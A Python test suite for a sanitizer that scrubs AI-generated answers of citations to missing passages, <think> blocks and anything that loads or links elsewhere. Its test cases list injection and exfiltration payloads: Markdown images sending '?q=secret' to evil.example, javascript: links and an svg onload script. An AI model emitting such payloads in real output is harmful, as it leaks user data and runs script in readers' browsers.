"""What a model wrote is shown without anything that loads, acts or points where no passage is."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from query.answers.written import Writing, scrubbed
from tests.answers_kit import numbered

SOURCE = "https://wiki.example/a"
PASSAGES = numbered("See https://docs.example/x for more.", "Two.", "Three.", source_url=SOURCE)


def shown(text: str) -> str:
    return scrubbed(text, PASSAGES)[0]


@pytest.mark.parametrize(
    ("written", "seen"),
    [
        ("Yes [1].", "Yes [1]."),
        ("Yes [1, 3][2].", "Yes [1][3][2]."),
        ("Yes [1-3].", "Yes [1][2][3]."),
        ("Yes 【2†source】.", "Yes [2]."),
        ("Yes [9].", "Yes."),
        ("Yes [1, 9].", "Yes [1]."),
        ("`args[7]` and ```\nx[8]\n```", "`args[7]` and ```\nx[8]\n```"),
        ("A list<String> and a < b.", "A list<String> and a < b."),
        ("Here is the data: 5.", "Here is the data: 5."),
        ("xhttp://evil.example/", "x(address removed)"),
        (f"[the page]({SOURCE})", f"[the page]({SOURCE})"),
        (f"See {SOURCE}.", f"See {SOURCE}."),
        ("[the page](https://evil.example/)", "[the page]"),
        ("[1](https://evil.example/)", "[1]"),
        ("See https://docs.example/x.", "See `https://docs.example/x`."),
        ("See https://docs.example/x?q=secret", "See (address removed)"),
        ("<think>Let me see.</think>\n\nYes [1].", " Yes [1]."),
        ("<think>Let me", " "),
        ("Yes <!-- no --> no", "Yes \u2039!-- no --> no"),
    ],
)
def test_what_is_shown(written: str, seen: str) -> None:
    assert shown(written) == seen


def test_what_was_met_is_counted() -> None:
    _, found = scrubbed("A [2]. B [7][1] ![x](https://e.example/?q=1) <img src=x> [2]", PASSAGES)
    assert (found.cited, found.bad_citations) == ([2, 1], [7])
    assert found.removed == 3  # the mark of an image, its address, and the element


ACTIVE = [
    "![x](https://evil.example/?q=secret)",
    "![x](//evil.example/?q=secret)",
    "![a [b] c](//evil.example/?q=secret)",
    "![x](\n//evil.example/?q=secret\n)",
    '![x](//evil.example/ "title (with) marks")',
    "![x][r]\n\n[r]: //evil.example/?q=secret",
    "![r]\n\n  [r]:\n//evil.example/?q=secret",
    "[x](javascript:alert(1))",
    "[x](<//evil.example/ a>)",
    "[x]( //evil.example )",
    "]<!-- -->(//evil.example/)[",
    "[a]<!-- -->(//evil.example/)",
    "[a][9](//evil.example/)",
    "[1][9](//evil.example/)",
    "!<think></think>[a](//evil.example/)",
    "<img src='//evil.example/'>",
    "<IMG\nsrc=//evil.example/>",
    "<svg/onload=alert(1)>",
    "<a href=//evil.example/>x</a>",
    "<https://evil.example/?q=secret>",
    "<javascript:alert(1)>",
    "` ![x](//evil.example/?q=secret)",
    "```not a fence` ![x](//evil.example/?q=secret)",
    "www.evil.example/?q=secret",
    "HTTPS://evil.example/?q=secret",
    "_http://evil.example/?q=secret",
    "[a](x) [b](//evil.example/(nested(deeper)))",
    "[[a]](//evil.example/)",
    r"[a\]b](//evil.example/)",
    r"\![a](//evil.example/)",
]
_LOADS = re.compile(r"""(?:src|href)=["']([^"']*)["']""")


def pointed_to(text: str) -> set[str]:
    """Every address that a reader's browser would load or follow, by a Markdown renderer that allows HTML."""
    html = MarkdownIt("commonmark", {"html": True}).render(text)
    raw = re.findall(r"<(?:img|a|svg|script|iframe|link|object|embed)\b[^>]*>", html, re.IGNORECASE)
    return {address for tag in raw for address in (_LOADS.findall(tag) or [tag])}


@pytest.mark.parametrize("written", ACTIVE)
def test_nothing_is_loaded_and_no_strange_address_is_linked(written: str) -> None:
    assert pointed_to(shown(f"Text. {written} more.")) == set()
    assert pointed_to(shown(written)) == set()


def test_these_would_have_been_loaded_or_linked() -> None:
    """So that the test above can fail."""
    assert sum(bool(pointed_to(written)) for written in ACTIVE) >= 16


FRAGMENTS = st.sampled_from(
    ["[", "]", "(", ")", "!", "<", ">", ":", " ", "\n", "`", "```", "1", "9", "a", "//e.example", "https://", "http",
     "www.", "<img src=x", "<!--", "-->", "<think>", "</think>", SOURCE, "【", "†", ", ", "-", "\\", "h", "ht", "\t"]
)  # fmt: skip
TEXTS = st.lists(FRAGMENTS, max_size=24).map("".join)


@given(TEXTS, st.lists(st.integers(1, 5), min_size=1, max_size=8))
def test_however_it_is_cut_the_same_is_shown(text: str, sizes: list[int]) -> None:
    writing, out, at, turn = Writing(PASSAGES), "", 0, 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        out += writing.feed(text[at : at + size])
        at, turn = at + size, turn + 1
    assert out + writing.end() == shown(text)


@given(TEXTS)
def test_no_mixture_of_marks_points_anywhere_but_to_a_source(text: str) -> None:
    assert pointed_to(shown(text)) <= {SOURCE}


@given(TEXTS)
def test_only_passages_that_exist_are_cited(text: str) -> None:
    out, found = scrubbed(text, PASSAGES)
    prose = re.sub(r"`[^`]*`?", "", out)
    assert {int(n) for n in re.findall(r"(?<!\!)\[(\d+)\]", prose)} <= {1, 2, 3}
    assert set(found.cited) <= {1, 2, 3}


def test_words_are_not_held_back() -> None:
    writing = Writing(PASSAGES)
    assert [writing.feed(piece) for piece in ("The ", "answer", " is", " five", ".", " [1", "]", " And")] == [
        "The", " answer", " is", " five", ".", "", "", " [1] And",
    ]  # fmt: skip
